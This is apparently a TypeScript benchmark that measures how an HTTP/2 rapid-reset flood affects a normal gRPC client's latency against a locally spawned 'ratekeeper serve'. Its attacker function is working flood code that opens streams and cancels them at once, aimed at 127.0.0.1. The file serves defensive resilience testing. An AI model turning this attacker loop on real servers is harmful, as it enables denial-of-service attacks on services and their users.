/**
 * bench/rapidReset — a normal client's latency while an HTTP/2 rapid-reset attacker floods `ratekeeper serve` (issue
 * 15 §3), each in a process of its own: the service (a real `ratekeeper serve`, memory store, admin off), the
 * attacker (node:http2, streams opened with a whole ShouldRateLimit request and reset at once, 50 per turn, on one
 * connection, a new one when the server ends it), and the normal client (one grpc-js channel, 200 calls one after the
 * other, from 0.5 s into the attack). Prints the normal client's p50/p99/max and the attacker's counts; the same
 * without the attacker first (the noise floor). `node dist/bench/rapidReset.js`; RK_CLI=<path of dist/src/cli.js>
 * measures another build (the old one, side by side); RR_SECONDS (default 8) bounds the attack.
 */
import { fork, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, writeFileSync } from 'node:fs';
import * as http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as grpc from '@grpc/grpc-js';
import * as protoLoader from '@grpc/proto-loader';

const SELF = fileURLToPath(import.meta.url);
const CLI = process.env.RK_CLI ?? fileURLToPath(new URL('../src/cli.js', import.meta.url));
const PROTO = fileURLToPath(new URL('../../src/server/proto/rls.proto', import.meta.url));
const SECONDS = Number(process.env.RR_SECONDS ?? 8);
const CONFIG = 'domain: edge\ndescriptors:\n  - key: user\n    rate_limit: { unit: second, requests_per_unit: 1000000 }\n';

/** request — ShouldRateLimit { domain: edge, descriptors: [{ entries: [{ user: value }] }] } as a gRPC frame. */
function request(value: string): Buffer {
  const s = (field: number, b: Buffer): Buffer => Buffer.concat([Buffer.from([(field << 3) | 2, b.length]), b]);
  const entry = s(1, Buffer.concat([s(1, Buffer.from('user')), s(2, Buffer.from(value))]));
  const msg = Buffer.concat([s(1, Buffer.from('edge')), s(2, entry)]);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(msg.length, 1);
  return Buffer.concat([head, msg]);
}

/** attacker — rapid reset on one connection (a new one when the server closes it) until `ms`; reports its counts. */
async function attacker(port: number, ms: number): Promise<void> {
  const body = request('flood');
  const headers = { ':method': 'POST', ':path': '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit', 'content-type': 'application/grpc', te: 'trailers' };
  let sent = 0;
  let connections = 0;
  const connect = (): http2.ClientHttp2Session => {
    connections++;
    const s = http2.connect(`http://127.0.0.1:${port}`);
    s.on('error', () => undefined);
    return s;
  };
  let sess = connect();
  const end = performance.now() + ms;
  while (performance.now() < end) {
    if (sess.closed || sess.destroyed) sess = connect();
    for (let i = 0; i < 50; i++) {
      try {
        const st = sess.request(headers);
        st.on('error', () => undefined);
        st.end(body);
        st.close(http2.constants.NGHTTP2_CANCEL);
        sent++;
      } catch {
        break;
      }
    }
    await new Promise((r) => setImmediate(r));
  }
  sess.destroy();
  process.send!({ sent, connections });
}

/** normal — 200 calls one after the other on one grpc-js channel; reports the latencies (ms). */
async function normal(port: number): Promise<void> {
  const def = protoLoader.loadSync(PROTO, { keepCase: true, longs: Number, enums: String, defaults: false, oneofs: false });
  const pkg = grpc.loadPackageDefinition(def) as unknown as { envoy: { service: { ratelimit: { v3: { RateLimitService: grpc.ServiceClientConstructor } } } } };
  const c = new pkg.envoy.service.ratelimit.v3.RateLimitService(`127.0.0.1:${port}`, grpc.credentials.createInsecure()) as unknown as { ShouldRateLimit: Function };
  const call = (i: number): Promise<void> => new Promise((resolve, reject) => c.ShouldRateLimit({ domain: 'edge', descriptors: [{ entries: [{ key: 'user', value: `n${i}` }] }] }, { deadline: Date.now() + 30_000 }, (e: Error | null) => (e ? reject(e) : resolve())));
  await call(-1); // the channel connected before timing
  process.send!({ ready: true });
  await once(process, 'message');
  const lat: number[] = [];
  let errors = 0;
  for (let i = 0; i < 200; i++) {
    const t = performance.now();
    try {
      await call(i);
    } catch {
      errors++;
    }
    lat.push(performance.now() - t);
  }
  process.send!({ lat, errors });
}

/** serve — `ratekeeper serve` on a temp config; its gRPC port. */
async function serve(): Promise<{ port: number; kill: () => void }> {
  const file = join(mkdtempSync(join(tmpdir(), 'rk-rr-')), 'c.yaml');
  writeFileSync(file, CONFIG);
  const proc = spawn(process.execPath, [CLI, 'serve', '--config', file, '--port', '0', '--grpc-port', '0', '--admin-port', 'off'], { stdio: ['ignore', 'ignore', 'pipe'] });
  const kill = (): void => void proc.kill('SIGKILL');
  process.once('exit', kill);
  let text = '';
  const port = await new Promise<number>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`not listening: ${text}`)), 30_000);
    proc.stderr!.setEncoding('utf8').on('data', (s: string) => {
      text += s;
      const m = /grpc listening on [^\s]*:(\d+)/.exec(text);
      if (m) {
        clearTimeout(timer);
        resolve(Number(m[1]));
      }
    });
  });
  return { port, kill };
}

function pct(lat: number[], p: number): number {
  const s = [...lat].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor(s.length * p))];
}

async function run(attack: boolean): Promise<string> {
  const srv = await serve();
  try {
    const client = fork(SELF, ['normal', String(srv.port)]);
    await once(client, 'message');
    let counts: Promise<[{ sent: number; connections: number }]> | undefined;
    if (attack) {
      const atk = fork(SELF, ['attacker', String(srv.port), String(SECONDS * 1000)]);
      counts = once(atk, 'message') as Promise<[{ sent: number; connections: number }]>;
      await new Promise((r) => setTimeout(r, 500));
    }
    const t0 = performance.now();
    client.send({ go: true });
    const [{ lat, errors }] = (await once(client, 'message')) as [{ lat: number[]; errors: number }];
    const clientMs = performance.now() - t0;
    const a = counts === undefined ? undefined : (await counts)[0];
    const f = (x: number): string => x.toFixed(1);
    return `| ${attack ? 'rapid reset' : 'none'} | ${a ? `${a.sent} streams reset on ${a.connections} connection(s)` : '—'} | ${lat.length} in ${(clientMs / 1000).toFixed(1)} s, ${errors} failed | ${f(pct(lat, 0.5))} | ${f(pct(lat, 0.99))} | ${f(Math.max(...lat))} |`;
  } finally {
    srv.kill();
  }
}

const [role, port, ms] = process.argv.slice(2);
if (role === 'attacker') await attacker(Number(port), Number(ms));
else if (role === 'normal') await normal(Number(port));
else {
  console.log(`ratekeeper serve: ${CLI}`);
  console.log('| attacker | attack | normal client calls | p50 ms | p99 ms | max ms |');
  console.log('|---|---|---|---:|---:|---:|');
  console.log(await run(false));
  console.log(await run(true));
}
process.exit(0);
